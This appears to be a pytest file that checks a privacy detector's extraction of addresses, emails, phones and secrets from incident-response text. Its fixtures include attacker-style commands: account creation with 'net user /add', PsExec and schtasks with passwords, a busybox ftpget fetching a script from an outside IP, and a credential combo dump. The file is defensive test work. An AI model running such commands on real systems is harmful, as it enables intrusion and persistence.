"""Forms the twenty-fifth blind set (security operations and incident response) taught.

Each form with its look-alike; the values are new ones.
"""

from __future__ import annotations

import pytest
from tests.unit.privacy.findings import found

ZEEK = (
    "#path\thttp\n"
    "#fields\tts\tuid\tid.orig_h\tmethod\turi\tusername\tpassword\n"
    "1750142611.204118\tCIBbGp7omEhBa6MUtX\t10.9.4.112\tGET\t/manager/status\tops_deploy\tQv7-Harbor!Ops41\n"
)


@pytest.mark.parametrize(
    ("text", "kind", "expected"),
    [
        # defanged indicators are still the address; a defanged network is no host's
        ("- 91.214.77[.]131 - C2 server (HTTPS)", "IP_ADDRESS", ["91.214.77[.]131"]),
        ("drop 77[.]91[.]124[.]20 at the edge", "IP_ADDRESS", ["77[.]91[.]124[.]20"]),
        ("- 193.142.146[.]0/24 - the reseller's range", "IP_ADDRESS", []),
        ("lure sender: payroll[@]hr-portal-check[.]com", "EMAIL", ["payroll[@]hr-portal-check[.]com"]),
        # tcpdump writes the port as a fifth part; a version with a fifth part is none
        (
            "03:40:01.98 IP 10.71.2.45.50122 > 10.71.1.21.21: Flags [P.], length 16",
            "IP_ADDRESS",
            ["10.71.2.45", "10.71.1.21"],
        ),
        ("upgraded to 4.1.12.7.2 last week", "IP_ADDRESS", []),
        # after "/", a prefix length makes a network, a larger number is a port (Cisco ASA)
        ("Built outbound TCP connection for inside:10.41.3.12/445 (10.41.3.12/445)", "IP_ADDRESS", ["10.41.3.12"] * 2),
        ("route 10.41.3.0/24 and 172.20.5.4/32 via the tunnel", "IP_ADDRESS", []),
        # four-part versions beside others of a product list (one ending in .0: no host's address)
        ("Tools: PECmd 1.5.1.0, RECmd 2.0.0.0, MFTECmd 1.2.2.1", "IP_ADDRESS", []),
        ("Hosts: web 81.2.69.142, db 81.2.69.143", "IP_ADDRESS", ["81.2.69.142", "81.2.69.143"]),
        # a Message-ID in angle brackets names a message
        ('"Delivered","<5368ec85c9513f4e26b1e2fe@esign-check.com>"', "EMAIL", []),
        ('"Delivered","Ana <ana.lee@esign-check.com>"', "EMAIL", ["ana.lee@esign-check.com"]),
        # a project's or a report's number is no phone
        ("Project number 622091783345, project id tf-prod-31", "PHONE", []),
        ("FTC report number 182904417, filed on 2025-06-02", "PHONE", []),
        ("Report the outage: call 020 7946 0321", "PHONE", ["020 7946 0321"]),
        # passwords Windows and busybox commands take; and an FTP session's PASS
        ("cmd.exe /c net user helpdesk_tmp Tr!dent-Gull-2025 /add", "SECRET", ["Tr!dent-Gull-2025"]),
        ('"C:\\\\Windows\\\\system32\\\\net1 user tmp_adm Tr!dent-Gull-2025 /add"', "SECRET", ["Tr!dent-Gull-2025"]),
        ("net user alice /delete && net user /domain bob", "SECRET", []),
        ("PsExec64.exe \\\\10.30.4.19 -accepteula -u CORP\\helpdesk -p Gull!Exec-77 cmd", "SECRET", ["Gull!Exec-77"]),
        ("schtasks /create /tn upd /tr c:\\u.exe /ru CORP\\svc_rep /rp Rpt-Gull#2019", "SECRET", ["Rpt-Gull#2019"]),
        ("schtasks /create /tn upd /tr c:\\u.exe /ru SYSTEM /rp *", "SECRET", []),
        ('"input":"busybox ftpget -u upl0ad -p g0ll-F7p-22 91.2.3.4 x.sh"', "SECRET", ["g0ll-F7p-22"]),
        ('"net.exe use \\\\10.30.4.19\\c$ /user:CORP\\svc_bkp Bkp#Gull-2291"', "SECRET", ["Bkp#Gull-2291"]),
        ("FTP: USER histbackup\nFTP: PASS H1st-Gull!24\nFTP: 230 Login successful.", "SECRET", ["H1st-Gull!24"]),
        ("--- PASS: TestLogin (0.01s)\nPASS\nok  \tgithub.com/acme/auth\t0.214s", "SECRET", []),
        ('"process.command_line":"mysql -h 10.12.0.40 -u root -pWh0f-Gull#DB"', "SECRET", ["Wh0f-Gull#DB"]),
        # a session cookie behind the __Host- prefix; a URL after -u is no user:password
        ("Cookie: __Host-ql_sess=7i9yFVlWyd8TPg3jovv1klEkCBYP_7Pn; _ga=GA1.1.15902", "SECRET", [
            "7i9yFVlWyd8TPg3jovv1klEkCBYP_7Pn"
        ]),
        ("$ nuclei -t cve-2024-4577.yaml -u http://127.0.0.1:8080", "SECRET", []),
        # a name and a hex id after "/" (a user agent's) is no token, whatever key word precedes it
        ("command/gcloud.iam.service-accounts.keys.create invocation-id/71705af02515b8b849b32751a155d8", "SECRET", []),
        # Zeek names its columns after its "#fields" tag
        (ZEEK, "SECRET", ["Qv7-Harbor!Ops41"]),
        # a combo list's "e-mail:password" (credential stuffing, a stealer's dump); not a remote, a port, a time
        ("dump: d.ferro@tallow-fish.com:Ferro!Sails2025\nb.kim@tallow-fish.com:Qx7-sails", "SECRET", [
            "Ferro!Sails2025", "Qx7-sails"
        ]),
        ("git@github.com:acme/infra.git admin@router.lan:8080 ana@x.com:12:30 ops@web1.acme.com:~/rel", "SECRET", []),
    ],
)
def test_security_operations_forms(text: str, kind: str, expected: list[str]) -> None:
    assert found(text, kind) == expected
